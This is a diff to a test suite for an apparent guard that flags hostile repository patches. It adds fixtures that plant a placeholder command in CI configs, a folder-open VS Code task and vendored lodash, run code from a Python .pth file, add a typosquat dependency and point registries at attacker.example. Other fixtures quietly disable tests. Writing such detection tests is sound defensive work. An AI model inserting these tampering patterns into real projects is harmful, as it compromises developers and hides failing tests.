@@ -91,6 +91,11 @@ const NPM: GuardCase[] = [
   hostile('npm-buildkite', 'npm', 'ci', edit('.buildkite/pipeline.yml', 'steps: []\n', `steps:\n  - command: ${EVIL}\n`)),
   hostile('npm-nvmrc', 'npm', 'toolchain-pins', edit('.nvmrc', '20\n', '14\n')),
   hostile('npm-env', 'npm', 'env-files', edit('.envrc', null, `${EVIL}\n`)),
+  hostile('npm-gitea', 'npm', 'ci', edit('.gitea/workflows/ci.yml', null, WORKFLOW)),
+  hostile('npm-gitpod', 'npm', 'ci', edit('.gitpod.yml', null, `tasks:\n  - init: ${EVIL}\n`)),
+  hostile('npm-netlify', 'npm', 'ci', edit('netlify.toml', '[build]\ncommand = "npm run build"\n', `[build]\ncommand = "${EVIL}"\n`)),
+  hostile('npm-vscode-tasks', 'npm', 'editor-tasks', edit('.vscode/tasks.json', null, `{ "version": "2.0.0", "tasks": [{ "label": "x", "type": "shell", "command": "${EVIL}", "runOptions": { "runOn": "folderOpen" } }] }\n`)),
+  hostile('npm-node-modules', 'npm', 'vendored-dependencies', edit('node_modules/lodash/index.js', 'module.exports = require("./lodash");\n', `require("child_process").execSync("${EVIL}");\nmodule.exports = require("./lodash");\n`)),
   rawHostile('npm-path-tricks', 'npm', 'ci', `diff --git a/./.github//workflows/ci.yml b/./.github//workflows/ci.yml\n--- a/./.github//workflows/ci.yml\n+++ b/./.github//workflows/ci.yml\n@@ -1 +1 @@\n-name: ci\n+name: pwned\n`),
   rawHostile('npm-dotdot-trick', 'npm', 'ci', `diff --git a/src/../.github/workflows/ci.yml b/src/../.github/workflows/ci.yml\n--- a/src/../.github/workflows/ci.yml\n+++ b/src/../.github/workflows/ci.yml\n@@ -1 +1 @@\n-name: ci\n+name: pwned\n`),
   rawHostile('npm-backslash-trick', 'npm', 'ci', `--- a/.github\\workflows\\ci.yml\n+++ b/.github\\workflows\\ci.yml\n@@ -1 +1 @@\n-name: ci\n+name: pwned\n`),
@@ -119,6 +124,10 @@ const PYTHON: GuardCase[] = [
   hostile('py-python-version', 'python', 'toolchain-pins', edit('.python-version', '3.12\n', '3.8\n')),
   hostile('py-poetry-lock', 'python', 'lockfile-registries', edit('poetry.lock', '[[package]]\nname = "requests"\nversion = "2.31.0"\n', '[[package]]\nname = "requests"\nversion = "2.31.0"\n[package.source]\ntype = "legacy"\nurl = "https://pypi.attacker.example/simple"\n')),
   hostile('py-pre-commit', 'python', 'git-hooks', edit('.pre-commit-config.yaml', 'repos: []\n', 'repos:\n  - repo: https://attacker.example/hooks\n    rev: v1\n    hooks: [{ id: x }]\n')),
+  hostile('py-sitecustomize', 'python', 'install-time-code', edit('sitecustomize.py', null, 'import pytest\npytest.skip = lambda *a, **k: None\n')),
+  hostile('py-pth', 'python', 'install-time-code', edit('src/lib/zz_evil.pth', null, 'import os; os.system("id")\n')),
+  hostile('py-requirements-dir', 'python', 'dependencies', edit('requirements/base.txt', REQS, `${REQS}typosquat-requests==0.1\n`)),
+  hostile('py-pytest-toml', 'python', 'test-config', edit('pytest.toml', null, '[pytest]\naddopts = ["--co"]\n')),
   hostile('py-coveragerc', 'python', 'test-config', edit('.coveragerc', '[run]\nsource = lib\n', '[run]\nsource = lib\nomit = lib/*\n')),
 ];
 
@@ -132,6 +141,7 @@ const GO: GuardCase[] = [
   hostile('go-workflow', 'go', 'ci', edit('.github/workflows/go.yml', WORKFLOW.replace('npm test', 'go test ./...'), WORKFLOW.replace('npm test', 'go test -run XXX ./...'))),
   hostile('go-makefile', 'go', 'build-scripts', edit('Makefile', 'test:\n\tgo test ./...\n', 'test:\n\ttrue\n')),
   hostile('go-goreleaser', 'go', 'ci', edit('.goreleaser.yml', 'builds: []\n', `before:\n  hooks: ["${EVIL}"]\n`)),
+  hostile('go-vendor', 'go', 'vendored-dependencies', edit('vendor/github.com/pkg/errors/errors.go', 'package errors\n', 'package errors\n\nfunc init() { panic("x") }\n')),
   hostile('go-dockerfile', 'go', 'containers', edit('build/Dockerfile.release', 'FROM golang:1.22\n', `FROM golang:1.22\nRUN ${EVIL}\n`)),
 ];
 
@@ -160,6 +170,7 @@ const JAVA: GuardCase[] = [
   hostile('java-gradle-properties', 'java', 'package-manager-config', edit('gradle.properties', 'org.gradle.jvmargs=-Xmx2g\n', 'org.gradle.jvmargs=-Xmx2g -javaagent:/tmp/x.jar\n')),
   hostile('java-init-gradle', 'java', 'package-manager-config', edit('init.gradle', null, 'allprojects { repositories { maven { url "https://attacker.example" } } }\n')),
   rawHostile('java-binary-wrapper-jar', 'java', 'wrappers', 'diff --git a/gradle/wrapper/gradle-wrapper.jar b/gradle/wrapper/gradle-wrapper.jar\nindex 1111111..2222222 100644\nBinary files a/gradle/wrapper/gradle-wrapper.jar and b/gradle/wrapper/gradle-wrapper.jar differ\n'),
+  hostile('java-junit-platform', 'java', 'test-config', edit('src/test/resources/junit-platform.properties', null, 'junit.jupiter.conditions.deactivate=*\njunit.jupiter.extensions.autodetection.enabled=true\n')),
   hostile('java-surefire-config', 'java', 'unverifiable-manifest', edit('pom.xml', POM, POM.replace('<project>', '<project>\n  <build><plugins><plugin><artifactId>maven-surefire-plugin</artifactId><configuration><skipTests>true</skipTests></configuration></plugin></plugins></build>'))),
 ];
 
@@ -188,6 +199,10 @@ const BENIGN: GuardCase[] = [
   benign('rust-bump', 'rust', edit('Cargo.toml', CARGO, CARGO.replace('serde = "1"', 'serde = "1.0.200"'))),
   benign('java-source-fix', 'java', edit('src/main/java/org/lib/Parser.java', 'class Parser { int f(int a) { return a; } }\n', 'class Parser { int f(int a) { return Math.max(a, 0); } }\n')),
   benign('java-test', 'java', edit('src/test/java/org/lib/ParserTest.java', null, 'class ParserTest { @org.junit.Test public void t() {} }\n')),
+  benign('py-requirements-dir-bump', 'python', edit('requirements/base.txt', REQS, REQS.replace('urllib3>=2', 'urllib3>=2.2'))),
+  benign('go-vendoring-source', 'go', edit('internal/vendoring/resolve.go', 'package vendoring\n', 'package vendoring\n\n// Resolve is documented.\n')),
+  benign('npm-ci-helpers', 'npm', fix('src/ci-helpers.ts'), edit('docs/netlify.md', 'Deploy.\n', 'Deploy with care.\n')),
+  benign('java-setup-test', 'java', edit('src/test/java/org/lib/SetupTest.java', null, 'class SetupTest {}\n')),
   benign('java-resources', 'java', edit('src/main/resources/messages.properties', 'a=b\n', 'a=c\n')),
 ];
 
